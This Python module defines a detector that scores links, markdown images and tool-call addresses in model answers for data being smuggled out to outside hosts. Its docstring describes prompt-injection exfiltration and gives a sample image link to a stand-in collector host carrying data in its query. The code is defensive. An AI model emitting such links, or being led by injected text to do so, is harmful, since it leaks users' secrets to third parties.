"""Links that carry something away: an image, a link, or a tool's address with data in it.

A model that was talked into it writes `![](https://collector.example/p.png?d=…)`, and whoever
shows the answer sends the data. Every link is looked at (`filters.attack.links`), and what its
parts say when they are undone (`filters.attack.payloads`). An image, or an address given to a
tool, is fetched by itself, so there less is enough. In requests a finding only points something out.

It waits for the end of an address, at most 2,048 characters. `defang` makes a link harmless.
"""

from __future__ import annotations

from collections.abc import Mapping
from fnmatch import fnmatchcase
from typing import Annotated

from pydantic import Field

from filters import registry
from filters.attack.addresses import host_of, values
from filters.attack.links import BEFORE, SIEVE, Link, Where, address, links
from filters.attack.payloads import NAMES_OF_LOOT, NAMES_OF_TEXT, NOISE, SIGNED, Carried, Load, carried
from filters.detector import DETECTORS, View, Window
from filters.harm.taxonomy import documented
from filters.model import Channel, Finding, Reading

_KIND = "injection.exfiltration"
_MOST_ASKED = 0.4  # in requests: nothing leaves by them
# Of an image, an address in a tool's arguments, a link: how likely each load is an attack.
_FETCHED: Mapping[Load, float] = {
    "secret": 0.97,
    "surrogate": 0.97,
    "contact": 0.95,
    "encoded": 0.95,
    "sentence": 0.93,
    "data": 0.92,
    "opaque": 0.91,
    "slot": 0.8,
}
_TOOL: Mapping[Load, float] = {"secret": 0.8, "surrogate": 0.6, "encoded": 0.6}
_CLICKED: Mapping[Load, float] = {
    "secret": 0.92,
    "surrogate": 0.9,
    "contact": 0.6,
    "encoded": 0.6,
    "opaque": 0.55,
}
_ENCODED_SENTENCE = 0.92  # wherever it stands: nobody encodes a sentence for a link
# They draw what the address says; nobody else reads what they were asked for.
_RENDERERS = (
    *(
        "quickchart.io",
        "image-charts.com",
        "chart.googleapis.com",
        "img.shields.io",
        "badgen.net",
        "latex.codecogs.com",
    ),
    *(
        "math.vercel.app",
        "mermaid.ink",
        "kroki.io",
        "www.plantuml.com",
        "via.placeholder.com",
        "placehold.co",
    ),
    *("placehold.jp", "dummyimage.com", "fakeimg.pl", "api.qrserver.com", "render.githubusercontent.com"),
)


@DETECTORS.add
class Exfiltration:
    """Answers, arguments of tools, and what is sent along in requests."""

    class Options(registry.Options):
        """What is trusted."""

        hosts: tuple[Annotated[str, Field(min_length=1, max_length=255)], ...] = Field(
            default=(),
            description="Hosts whose links may carry anything: names, or globs such as `*.example.com`.",
        )
        renderers: bool = Field(
            default=True, description="Whether well-known services that draw charts and formulas are trusted."
        )

    name = "exfiltration"
    kinds: Mapping[str, str] = documented(_KIND)
    reach = BEFORE
    view: View = "folded"
    inline = True
    sieve = SIEVE

    def __init__(self, options: Options) -> None:
        self._hosts = tuple(host.lower() for host in options.hosts)
        self._renderers = frozenset(_RENDERERS if options.renderers else ())

    def read(self, window: Window) -> Reading:
        text, found = window.text, list[Finding]()
        for link in links(text, window.at, final=window.final):
            if link.open:
                return Reading(tuple(found), window.start + link.begin)
            if finding := self._judged(window, link):
                found.append(finding)
        return Reading(tuple(found), window.end)

    def _judged(self, window: Window, link: Link) -> Finding | None:
        source = address(window.text[link.begin : link.end])
        host = host_of(source)
        if any(fnmatchcase(host, trusted) for trusted in self._hosts):
            return None
        where = _where(link.where, window.channel)
        loads = (one for value in values(source) if (one := carried(value)))
        drawn = host in self._renderers
        weighed = [(_weight(one, where, drawn=drawn), one.load) for one in loads]
        score, load = max(weighed, default=(0.0, ""))
        if window.channel.direction == "request":
            score = min(score, _MOST_ASKED)
        if not score:
            return None
        attrs = {"how": load, "where": where, "severity": 3}
        return window.finding((link.begin, link.begin + len(source)), _KIND, score, attrs)


def _where(where: Where, channel: Channel) -> str:
    tool = channel.direction == "response" and channel.syntax == "json" and where == "bare"
    return "tool" if tool else "link" if where == "bare" else where


def _weight(one: Carried, where: str, *, drawn: bool) -> float:
    """How likely it is that this was put there to be carried away."""
    if drawn and one.load not in ("secret", "surrogate", "contact"):
        return 0.0
    if one.encoded and one.load in ("sentence", "secret", "surrogate", "contact"):
        return max(_ENCODED_SENTENCE, _FETCHED[one.load] if where == "image" else 0.0)
    if one.load == "contact" and one.part not in ("query", "fragment"):
        return 0.0
    if one.load == "opaque" and NOISE.match(one.name):
        return 0.0
    if one.load == "secret" and not one.encoded and SIGNED.match(one.name):
        return 0.0
    table = {"image": _FETCHED, "tool": _TOOL}.get(where, _CLICKED)
    least = max(table.get(one.load, 0.0), table["encoded"] if one.encoded else 0.0)
    if one.load == "opaque" and one.part == "host":
        return 0.6 if where == "image" else 0.0
    if one.load == "sentence" and one.part == "path":
        return min(least, 0.6)
    if one.load in ("sentence", "slot") and NAMES_OF_TEXT.match(one.name):
        return min(least, 0.7)
    if one.load in ("sentence", "data") and NAMES_OF_LOOT.match(one.name):
        return max(least, 0.6)
    return least
